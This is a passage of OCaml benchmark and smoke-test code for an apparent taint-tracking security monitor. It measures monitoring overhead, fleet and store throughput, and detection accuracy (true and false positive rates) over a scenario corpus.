      (if Float.is_nan store_buffer_ns || store_buffer_ns <= 0. then []
       else
         [ Printf.sprintf "\"overhead_vs_buffer\": %.2f"
             (ns /. store_buffer_ns) ])
    else [ Printf.sprintf "\"latency_ms\": %.3f" (ns /. 1e6) ]
  in
  let doc =
    String.concat "\n"
      [ "{";
        "  \"benchmark\": \"Section 9 performance study\",";
        "  \"unit\": \"ns/run\",";
        json_group "levels" levels slowdown ^ ",";
        json_group "components" components no_extra ^ ",";
        json_group "policy" policies no_extra ^ ",";
        json_group "corpus" corpus corpus_extra ^ ",";
        json_group "fleet"
          (List.map (fun (n, ns, _) -> n, ns) fleet)
          fleet_extra
        ^ ",";
        json_group "serve"
          (List.map (fun (n, ns, _) -> n, ns) serve)
          serve_extra
        ^ ",";
        json_group "store" store store_extra;
        "}" ]
  in
  let oc = open_out path in
  output_string oc doc;
  output_char oc '\n';
  close_out oc;
  Printf.printf "wrote %s\n%!" path

let run ?(json_path = "BENCH_perf.json") () =
  Printf.printf
    "\n== Section 9: performance (Bechamel, monotonic clock) ==\n%!";
  let levels = analyze (session_tests ()) in
  let native =
    match
      List.find_opt (fun (n, _) -> n = "harrier-levels/native (no monitor)")
        levels
    with
    | Some (_, ns) -> ns
    | None -> nan
  in
  Grid.print ~title:"Monitoring levels on the copy/checksum workload (~60k instructions)"
    ~headers:[ "Configuration"; "time/run"; "slowdown vs native" ]
    (List.map
       (fun (name, ns) ->
         [ name; human_ns ns; Printf.sprintf "%.1fx" (ns /. native) ])
       levels);
  let components = analyze (component_tests ()) in
  Grid.print ~title:"Component micro-benchmarks"
    ~headers:[ "Component"; "time/run" ]
    (List.map (fun (name, ns) -> [ name; human_ns ns ]) components);
  let policies = analyze (policy_tests ()) in
  Grid.print ~title:"Secpert policy engines (same event stream)"
    ~headers:[ "Policy"; "time/run" ]
    (List.map (fun (name, ns) -> [ name; human_ns ns ]) policies);
  let corpus = corpus_results () in
  Grid.print
    ~title:
      (Printf.sprintf "Corpus throughput (%d golden scenarios per sweep)"
         corpus_size)
    ~headers:
      [ "Configuration"; "time/sweep"; "sessions/s"; "vs cold (same policy)" ]
    (List.map
       (fun (name, ns) ->
         [ name; human_ns ns;
           Printf.sprintf "%.0f" (float_of_int corpus_size *. 1e9 /. ns);
           (match corpus_cold_for corpus name with
            | Some cold when cold > 0. -> Printf.sprintf "%.2fx" (cold /. ns)
            | _ -> "-") ])
       corpus);
  let fleet = fleet_results () in
  let jobs1 =
    match List.find_opt (fun (n, _, _) -> n = "fleet/jobs=1") fleet with
    | Some (_, ns, _) -> ns
    | None -> nan
  in
  Grid.print
    ~title:
      (Printf.sprintf
         "Fleet scaling (%d golden scenarios per sweep, %d host cores)"
         corpus_size
         (Domain.recommended_domain_count ()))
    ~headers:
      [ "Configuration"; "time/sweep"; "sessions/s"; "vs jobs=1";
        "steals/sweep" ]
    (List.map
       (fun (name, ns, (st : Fleet.Pool.stats)) ->
         [ name; human_ns ns;
           Printf.sprintf "%.0f" (float_of_int corpus_size *. 1e9 /. ns);
           Printf.sprintf "%.2fx" (jobs1 /. ns);
           Printf.sprintf "%.1f"
             (float_of_int st.stolen /. float_of_int (fleet_rounds + 2)) ])
       fleet);
  let serve = serve_results () in
  Grid.print
    ~title:
      (Printf.sprintf
         "Serve pipeline (%d golden scenarios per sweep over a socketpair)"
         corpus_size)
    ~headers:
      [ "Configuration"; "time/sweep"; "sessions/s"; "p50"; "p95"; "p99" ]
    (List.map
       (fun (name, ns, (p50, p95, p99)) ->
         [ name; human_ns ns;
           Printf.sprintf "%.0f" (float_of_int corpus_size *. 1e9 /. ns);
           Printf.sprintf "%.2f ms" p50;
           Printf.sprintf "%.2f ms" p95;
           Printf.sprintf "%.2f ms" p99 ])
       serve);
  let ingest = store_ingest_results () in
  let buffer_ns =
    match
      List.find_opt (fun (n, _) -> n = "store/ingest buffer sink") ingest
    with
    | Some (_, ns) -> ns
    | None -> nan
  in
  Grid.print
    ~title:
      (Printf.sprintf
         "Store ingest (%d golden scenarios per sweep, traces on)"
         corpus_size)
    ~headers:
      [ "Sink"; "time/sweep"; "sessions/s"; "vs buffer sink" ]
    (List.map
       (fun (name, ns) ->
         [ name; human_ns ns;
           Printf.sprintf "%.0f" (float_of_int corpus_size *. 1e9 /. ns);
           Printf.sprintf "%.2fx" (ns /. buffer_ns) ])
       ingest);
  let queries = store_query_results () in
  Grid.print
    ~title:"Fleet queries (store of one golden sweep, index-only reads)"
    ~headers:[ "Query"; "latency" ]
    (List.map (fun (name, ns) -> [ name; human_ns ns ]) queries);
  write_json json_path ~levels ~native ~components ~policies ~corpus ~fleet
    ~serve ~store:(ingest @ queries)
