(* Detection metrics across the whole corpus: the aggregate view of the
   paper's accuracy story (Sections 8.2/8.3): detection rate on
   malicious scenarios, false-positive rate on benign ones, and severity
   agreement.

   The tallies are a single pass over the corpus into the
   [bench.metrics.*] counter family from lib/obs — the same substrate
   the sessions themselves report through — rather than repeated
   List.filter passes over a retained result list. *)

let rec run () =
  let before = Obs.snapshot () in
  let tally label = Obs.Counter.incr (Obs.Counter.labeled "bench.metrics" label) in
  let is_malicious (sc : Guest.Scenario.t) =
    match sc.sc_expected with
    | Guest.Scenario.Benign -> false
    | Guest.Scenario.Malicious _ -> true
  in
  let detected = function
    | Hth.Report.Benign -> false
    | Hth.Report.Suspicious _ -> true
  in
  List.iter
    (fun (sc : Guest.Scenario.t) ->
      let v = Hth.Report.verdict (Guest.Scenario.run sc) in
      tally "scenarios";
      (match is_malicious sc, detected v with
       | true, true -> tally "tp"
       | true, false -> tally "fn"
       | false, true -> tally "fp"
       | false, false -> tally "tn");
      if Guest.Scenario.matches sc.sc_expected v then tally "exact")
    Guest.Corpus.all;
  let stats = Obs.diff ~before ~after:(Obs.snapshot ()) in
  let stat l =
    Option.value (List.assoc_opt ("bench.metrics." ^ l) stats) ~default:0
  in
  let scenarios = stat "scenarios" in
  let tp = stat "tp" and fn = stat "fn" in
  let fp = stat "fp" and tn = stat "tn" in
  let exact = stat "exact" in
  let pct a b = if b = 0 then "-" else Printf.sprintf "%.0f%%" (100. *. float a /. float b) in
  Grid.print ~title:"Corpus detection metrics"
    ~headers:[ "Metric"; "Value" ]
    [ [ "scenarios"; string_of_int scenarios ];
      [ "malicious detected (TP)"; Printf.sprintf "%d / %d (%s)" tp (tp + fn) (pct tp (tp + fn)) ];
      [ "malicious missed (FN)"; string_of_int fn ];
      [ "benign clean (TN)"; Printf.sprintf "%d / %d (%s)" tn (tn + fp) (pct tn (tn + fp)) ];
      [ "benign flagged (FP)"; string_of_int fp ];
      [ "exact severity agreement"; Printf.sprintf "%d / %d (%s)" exact scenarios (pct exact scenarios) ] ];
  (* expected FPs per the paper: xeyes/make/g++ warn Low on trusted
     behaviour; in this corpus those are *expected* Malicious Low, so FP
     here counts only unexpected flags *)
  if fp > 0 || fn > 0 then
    Printf.printf
      "note: nonzero FP/FN indicates disagreement with the scenario \
       expectations — see the classification tables.\n";
  (* The corpus pass above ran under the default config, i.e. with
     tiered execution on — so the same Obs.diff also carries the
     execution-strategy counters (excluded from session results, but
     visible to a direct diff).  Report them: decoded instruction
     slots, block promotions, summary applications and deopts across
     the whole corpus. *)
  Grid.print ~title:"Tiered execution across the corpus pass"
    ~headers:[ "Counter"; "Value" ]
    (List.filter_map
       (fun n ->
         Option.map
           (fun v -> [ n; string_of_int v ])
           (List.assoc_opt n stats))
       [ "vm.blocks"; "vm.blocks.decoded"; "vm.blocks.promoted";
         "vm.blocks.deopt"; "harrier.summary.applied" ]);
  run_chaos ()

(* Robustness tally: the same corpus pass under a seeded fault plan and
   a tight shadow-page budget, reported through the counter families the
   substrate maintains — [session.outcome.<kind>] (supervisor outcomes),
   [osim.faults.injected.<errno>] (what the plan delivered) and
   [harrier.degraded] (shadows that saturated). *)
and run_chaos () =
  let seed = 42 in
  let budgets =
    { Hth.Session.no_budgets with b_shadow_pages = Some 64 }
  in
  let before = Obs.snapshot () in
  List.iter
    (fun (sc : Guest.Scenario.t) ->
      ignore
        (Hth.Session.run_outcome ~fault:(Osim.Fault.seeded seed) ~budgets
           sc.sc_setup))
    Guest.Corpus.all;
  let stats = Obs.diff ~before ~after:(Obs.snapshot ()) in
  let prefixed p =
    List.filter_map
      (fun (n, v) ->
        let lp = String.length p in
        if String.length n > lp && String.sub n 0 lp = p then
          Some [ n; string_of_int v ]
        else None)
      stats
  in
  let flat n =
    match List.assoc_opt n stats with
    | Some v -> [ [ n; string_of_int v ] ]
    | None -> []
  in
  Grid.print
    ~title:(Printf.sprintf "Robustness under seeded faults (seed %d)" seed)
    ~headers:[ "Counter"; "Value" ]
    (prefixed "session.outcome."
    @ prefixed "osim.faults.injected."
    @ flat "osim.faults.injected"
    @ flat "harrier.degraded"
    @ flat "secpert.warnings.dropped")
