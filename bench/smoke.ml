(* bench-smoke: runs every bench code path with tiny iteration counts
   so the benchmark harness can't bit-rot.  Wired into `dune runtest`
   (see bench/dune); takes well under a second. *)

let check name cond = if not cond then failwith ("bench smoke: " ^ name)

let () =
  (* session monitoring levels, one short run each *)
  let sc = Guest.Perf_workload.scenario ~iters:2 in
  ignore (Hth.Session.run_unmonitored sc.sc_setup);
  List.iter
    (fun cfg -> ignore (Hth.Session.run ~monitor_config:cfg sc.sc_setup))
    [ Perf.bare_config; Perf.freq_config; Perf.dataflow_config;
      Harrier.Monitor.default_config ];
  (* component micro-operations *)
  let u = Taint.Tagset.union Perf.sp Perf.tag_a Perf.tag_b in
  check "union memoized"
    (Taint.Tagset.equal u (Taint.Tagset.union Perf.sp Perf.tag_b Perf.tag_a));
  let shadow = Harrier.Shadow.create ~space:Perf.sp () in
  let straddle = 0x1000 - 8 in
  Harrier.Shadow.set_range shadow straddle 64 u;
  check "straddling range"
    (Taint.Tagset.equal u (Harrier.Shadow.range shadow straddle 64));
  check "tagged bytes" (Harrier.Shadow.tagged_bytes shadow = 64);
  Harrier.Shadow.set_range shadow straddle 64 Taint.Tagset.empty;
  check "cleared" (Harrier.Shadow.tagged_bytes shadow = 0);
  Perf.wm_inference ();
  Perf.secpert_execve_workload ();
  (* corpus throughput paths: a cold sweep and a shared-engine sweep
     must agree on warnings for every golden scenario *)
  let scs = Perf.golden_corpus () in
  check "golden corpus present" (List.length scs = Perf.corpus_size);
  let eng = Hth.Engine.create () in
  List.iter
    (fun (sc : Guest.Scenario.t) ->
      let cold = Hth.Session.run sc.sc_setup in
      let warm = Hth.Engine.run eng sc.sc_setup in
      check
        ("engine verdict matches cold: " ^ sc.sc_name)
        (cold.max_severity = warm.max_severity
        && List.map Secpert.Warning.to_string cold.warnings
           = List.map Secpert.Warning.to_string warm.warnings))
    scs;
  Perf.sweep (Hth.Engine.run eng) scs ();
  (* fleet executor path: a 2-worker sweep must agree with the shared
     engine on every verdict, in submission order *)
  let ex = Fleet.Executor.create ~jobs:2 [ "default", Hth.Engine.create () ] in
  let outs =
    Fleet.Executor.run_all ex
      (List.map
         (fun (sc : Guest.Scenario.t) -> Fleet.Executor.job sc.sc_setup)
         scs)
  in
  Fleet.Executor.shutdown ex;
  check "fleet outcome count" (List.length outs = List.length scs);
  List.iter2
    (fun (sc : Guest.Scenario.t) (o : Fleet.Executor.outcome) ->
      match o.o_result with
      | Error e ->
        failwith
          ("bench smoke: fleet error on " ^ sc.sc_name ^ ": "
          ^ Hth.Error.to_string e)
      | Ok r ->
        let direct = Hth.Engine.run eng sc.sc_setup in
        check
          ("fleet verdict matches engine: " ^ sc.sc_name)
          (r.max_severity = direct.max_severity))
    scs outs;
  check "fleet executed counted"
    ((Fleet.Executor.stats ex).executed = List.length scs);
  (* observability: counters move, the JSONL trace is byte-deterministic,
     and the no-op sink is restored afterwards *)
  let r = Hth.Session.run sc.sc_setup in
  let stat name = Option.value (List.assoc_opt name r.stats) ~default:0 in
  check "instructions counted" (stat "vm.instructions" > 0);
  check "syscalls counted" (stat "osim.syscalls" > 0);
  check "warnings counted" (stat "secpert.warnings" = List.length r.warnings);
  let capture () =
    let buf = Buffer.create 512 in
    Obs.Trace.to_buffer buf;
    Fun.protect ~finally:Obs.Trace.disable (fun () ->
        ignore (Hth.Session.run sc.sc_setup));
    Buffer.contents buf
  in
  let t1 = capture () in
  check "trace non-empty" (String.length t1 > 0);
  check "trace deterministic" (String.equal t1 (capture ()));
  check "no-op sink restored" (not (Obs.Trace.enabled ()));
  (* store bench path: build the query store in a temp dir, answer
     each fleet query once, tear it down *)
  let store_dir = Filename.temp_file "bench_smoke_store" "" in
  Sys.remove store_dir;
  Perf.build_store store_dir;
  (match Store.Warehouse.load store_dir with
   | Error e -> failwith ("bench smoke: store load: " ^ Hth.Error.to_string e)
   | Ok view ->
     check "store holds the corpus"
       (List.length view.v_entries = Perf.corpus_size);
     (match
        Store.Fleet_query.query view
          { Store.Fleet_query.no_filter with q_severity = Some "HIGH" }
      with
      | Ok hits -> check "severity query hits" (hits <> [])
      | Error e -> failwith ("bench smoke: query: " ^ Hth.Error.to_string e));
     (match Store.Fleet_query.profile view with
      | Ok blocks -> check "fleet profile nonempty" (blocks <> [])
      | Error e ->
        failwith ("bench smoke: profile: " ^ Hth.Error.to_string e));
     (match Store.Fleet_query.diff view ~run:"pma" with
      | Ok (_, compared) -> check "fleet diff compared" (compared > 0)
      | Error e -> failwith ("bench smoke: diff: " ^ Hth.Error.to_string e)));
  Perf.remove_store store_dir;
  (* the JSON emitter *)
  let tmp = Filename.temp_file "bench_smoke" ".json" in
  Perf.write_json tmp
    ~levels:[ "harrier-levels/native (no monitor)", 1e6 ]
    ~native:1e6
    ~components:[ "components/tagset union (interned, memo hit)", 10. ]
    ~policies:[ "policy/native rules (20 transfers)", 1e5 ]
    ~corpus:
      [ "corpus/cold per-session setup (native)", 2e6;
        "corpus/shared engine (native)", 1e6 ]
    ~fleet:
      [ "fleet/jobs=1", 2e6,
        { Fleet.Pool.executed = 9; stolen = 0; injected = 9; parks = 0;
          exceptions = 0; respawns = 0 };
        "fleet/jobs=2", 1e6,
        { Fleet.Pool.executed = 9; stolen = 3; injected = 9; parks = 1;
          exceptions = 0; respawns = 0 } ]
    ~serve:
      [ "serve/jobs=1", 2e6, (0.8, 1.4, 2.1);
        "serve/jobs=2", 1e6, (0.7, 1.2, 1.9) ]
    ~store:
      [ "store/ingest buffer sink", 2e6;
        "store/ingest segment sink (64KiB chunks)", 2.4e6;
        "store/fleet profile", 1e5 ];
  Sys.remove tmp;
  print_endline "bench smoke ok"
